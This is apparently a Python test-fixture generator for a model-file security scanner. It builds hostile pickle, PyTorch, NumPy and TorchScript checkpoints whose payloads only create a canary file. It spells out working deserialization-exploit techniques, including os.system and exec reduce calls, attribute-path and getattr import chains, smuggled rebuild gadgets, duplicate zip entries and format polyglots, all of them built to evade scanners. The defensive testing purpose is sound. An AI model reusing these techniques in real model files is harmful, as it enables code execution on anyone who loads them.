"""Generate hostile checkpoints whose payloads only create a canary file, one per family and opcode route.

`build(outdir, canaries)` writes every sample and returns name -> (path, loader, canary). `loader` says
how a victim loads it (`pickle`: pickle.load; `pickle-all`: pickle.load until EOF; `torch`:
torch.load(weights_only=False); `numpy`: np.load(allow_pickle=True); `jit`: torch.jit.load; `field`:
pickle.loads of the `blob` field). `run_all` (used in a subprocess) loads each and reports which canaries
appeared, so a sample that does not really run its payload fails the test instead of passing silently.
"""
from __future__ import annotations

import io
import json
import os
import pickle
import struct
import sys
import tarfile
import zipfile


def _s(text: str) -> bytes:
    """A BINUNICODE string."""
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _g(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4): the name part may be an attribute path."""
    return _s(module) + _s(name) + b"\x93"


def _touch_code(canary: str) -> str:
    return f"open({canary!r}, 'w').close()"


def pickles(canary: str) -> dict[str, tuple[bytes, str]]:
    """Raw pickle payloads: name -> (bytes, loader)."""
    code = _touch_code(canary)
    p2, p4 = b"\x80\x02", b"\x80\x04"
    out = {
        "reduce-exec": p2 + _g("builtins", "exec") + _s(code) + b"\x85R.",
        "reduce-os-system": p2 + _g("os", "system") + _s(f"touch {canary}") + b"\x85R.",
        "reduce-open": p2 + _g("builtins", "open") + _s(canary) + _s("w") + b"\x86R.",
        "stdlib-logging-filehandler": p2 + _g("logging", "FileHandler") + _s(canary) + b"\x85R.",
        "stdlib-io-fileio": p2 + _g("io", "FileIO") + _s(canary) + _s("w") + b"\x86R.",
        "torch-save-called": p2 + _g("torch", "save") + b"K\x01" + _s(canary) + b"\x86R.",
        "numpy-savetxt-called": p2 + _g("numpy", "savetxt") + _s(canary) + b"]K\x01a\x86R.",
        "attr-pathlib-touch": p4 + _sg("pathlib", "Path.touch") + _sg("pathlib", "PosixPath") + _s(canary)
        + b"\x85R\x85R.",
        "attr-pathlib-os-system": p4 + _sg("pathlib", "os.system") + _s(f"touch {canary}") + b"\x85R.",
        "attr-enum-bltns-exec": p4 + _sg("enum", "bltns.exec") + _s(code) + b"\x85R.",
        "attr-torch-module-torch-save": p4 + _sg("torch.nn.modules.module", "torch.save") + b"K\x01" + _s(canary)
        + b"\x86R.",
        "attr-sampler-serialization-os": p4 + _sg("torch.utils.data.sampler", "torch.serialization.os.system")
        + _s(f"touch {canary}") + b"\x85R.",
        "attr-numpy-ma-eval": p4 + _sg("numpy.ma.core", "builtins.eval") + _s(code) + b"\x85R.",
        "inst-protocol0": b"(S" + repr(code).encode() + b"\nibuiltins\nexec\n.",
        "obj-opcode": p2 + b"(" + _g("builtins", "exec") + _s(code) + b"o.",
        "newobj-build-setstate-dunder": p2 + _g("argparse", "Namespace") + b")\x81}" + _s("__setstate__")
        + _g("builtins", "exec") + b"sb" + _s(code) + b"b.",
        "protocol0-text": b"cposix\nsystem\n(S'touch " + canary.encode() + b"'\ntR.",
        "no-proto-binary": _g("builtins", "exec") + b"(" + _s(code) + b"tR.",
        "frame-straddling": p4 + b"\x95" + struct.pack("<Q", 5) + _sg("builtins", "exec") + _s(code) + b"\x85R.",
        "py2-name-mapping": p2 + _g("__builtin__", "exec") + _s(code) + b"\x85R.",
        "py2-commands-getoutput": b"ccommands\ngetoutput\n(S'touch " + canary.encode() + b"'\ntR.",
        "smuggled-rebuild-from-type": p2 + _g("torch._tensor", "_rebuild_from_type_v2") + b"(" + _g("io", "FileIO")
        + _g("torch", "Tensor") + _s(canary) + _s("w") + b"\x86}tR.",
        "smuggled-copyreg-reconstructor": p2 + _g("copyreg", "_reconstructor") + _g("logging", "FileHandler")
        + _g("logging", "FileHandler") + _s(canary) + b"\x87R.",
        "getattr-import-chain": p2 + _g("builtins", "getattr") + _g("builtins", "__import__") + _s("os") + b"\x85R"
        + _s("system") + b"\x86R" + _s(f"touch {canary}") + b"\x85R.",
    }
    loaders = {name: (data, "pickle") for name, data in out.items()}
    stacked = pickle.dumps({"ok": 1}, protocol=2) + b"cposix\nsystem\n(S'touch " + canary.encode() + b"'\ntR."
    loaders["stacked-protocol0-second"] = (stacked, "pickle-all")
    return loaders


def _torch_zip(data_pkl: bytes, *, duplicate_first: bytes = b"") -> bytes:
    """A torch.save-style zip around `data_pkl` (optionally with an earlier record of the same name)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/version", "3\n")
        if duplicate_first:
            import warnings

            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                z.writestr("archive/data.pkl", duplicate_first)
        z.writestr("archive/data.pkl", data_pkl)
        z.writestr("archive/byteorder", "little")
    return buf.getvalue()


def containers(canary: str) -> dict[str, tuple[bytes, str]]:
    """Payloads inside the containers torch.load and numpy read."""
    code = _touch_code(canary)
    evil = b"\x80\x02" + _g("builtins", "exec") + _s(code) + b"\x85R."
    benign = pickle.dumps({"w": 1}, protocol=2)
    out: dict[str, tuple[bytes, str]] = {
        "zip-data-pkl": (_torch_zip(evil), "torch"),
        "zip-duplicate-data-pkl": (_torch_zip(evil, duplicate_first=benign), "torch"),
    }
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    indirect = b"\x80\x02" + _g("builtins", "int") + _s("1950a86a20f9469cfc6c") + b"K\x10\x86R."
    legacy_tail = pickle.dumps(1001, protocol=2) + pickle.dumps({"little_endian": True}, protocol=2) + evil
    out["legacy-payload-after-magic"] = (magic + legacy_tail, "torch")
    out["legacy-indirect-magic"] = (indirect + legacy_tail, "torch")
    out["payload-before-legacy-magic"] = (evil + magic + legacy_tail, "torch")
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w", format=tarfile.USTAR_FORMAT) as t:
        info = tarfile.TarInfo("storages")
        info.size = len(evil)
        t.addfile(info, io.BytesIO(evil))
    raw = bytearray(tar.getvalue())
    raw[257:265] = b"\0" * 8  # an old v7 tar: no ustar magic
    raw[148:156] = b" " * 8
    raw[148:156] = b"%06o\0 " % sum(raw[:512])
    out["legacy-tar-no-ustar"] = (bytes(raw), "torch")
    # SHORT_BINBYTES of 6 zero bytes and "{": bytes 0..7 read as a small safetensors header length, byte 8 is "{"
    poly = b"C\x07" + b"\x00" * 6 + b"{0" + evil[2:]
    out["safetensors-sniffing-pickle"] = (poly + b" " * (0x743 + 8 - len(poly)), "torch")
    npy_header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    npy_header += " " * (63 - len(npy_header) - 10) + "\n"
    out["npy-object-array"] = (b"\x93NUMPY\x01\x00" + struct.pack("<H", len(npy_header)) + npy_header.encode()
                               + evil, "numpy")
    nested = b"\x80\x02}" + _s("blob") + b"C" + bytes([len(evil)]) + evil + b"s."
    out["nested-pickle-in-field"] = (nested, "field")
    return out


def torchscript(canary: str, path: str) -> None:
    """A TorchScript archive whose __setstate__ maps (and creates) a file with torch.from_file on load."""
    import torch
    from torch import nn

    class FromFile(nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.target = canary
            self.n = 0

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x

        @torch.jit.export
        def __getstate__(self) -> tuple[str, bool]:
            return (self.target, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[str, bool]) -> None:
            self.target = state[0]
            self.training = state[1]
            self.n = torch.from_file(self.target, True, 1).numel()  # used, so the compiler keeps the call

    torch.jit.save(torch.jit.script(FromFile()), path)


_EXTENSIONS = {"pickle": ".pkl", "pickle-all": ".pkl", "field": ".pkl", "torch": ".pt", "numpy": ".npy"}


def build(outdir: str, canaries: str) -> dict[str, tuple[str, str, str]]:
    """Write every sample; name -> (path, loader, canary path)."""
    os.makedirs(outdir, exist_ok=True)
    os.makedirs(canaries, exist_ok=True)
    out = {}
    samples = {}
    for family in (pickles, containers):
        for name in family("?"):
            canary = os.path.join(canaries, name)
            samples[name] = family(canary)[name] + (canary,)
    for name, (data, loader, canary) in samples.items():
        path = os.path.join(outdir, name + _EXTENSIONS[loader])
        with open(path, "wb") as f:
            f.write(data)
        out[name] = (path, loader, canary)
    canary = os.path.join(canaries, "torchscript-from-file")
    path = os.path.join(outdir, "torchscript-from-file.pt")
    torchscript(canary, path)
    out["torchscript-from-file"] = (path, "jit", canary)
    return out


def run_all(samples: dict[str, tuple[str, str, str]]) -> dict[str, bool]:
    """Load every sample as its victim would; name -> whether its canary appeared. Runs hostile code!"""
    import numpy as np
    import torch

    ran = {}
    for name, (path, loader, canary) in samples.items():
        try:
            if loader == "pickle":
                with open(path, "rb") as f:
                    pickle.load(f)
            elif loader == "pickle-all":
                with open(path, "rb") as f:
                    while f.peek(1)[:1]:
                        pickle.load(f)
            elif loader == "torch":
                torch.load(path, weights_only=False)
            elif loader == "numpy":
                np.load(path, allow_pickle=True)
            elif loader == "jit":
                torch.jit.load(path)
            elif loader == "field":
                with open(path, "rb") as f:
                    pickle.loads(pickle.load(f)["blob"])
        except Exception:  # the payload ran (or not) before the loader failed; the canary tells
            pass
        ran[name] = os.path.exists(canary)
    return ran


if __name__ == "__main__":
    print(json.dumps(run_all(json.load(open(sys.argv[1])))))
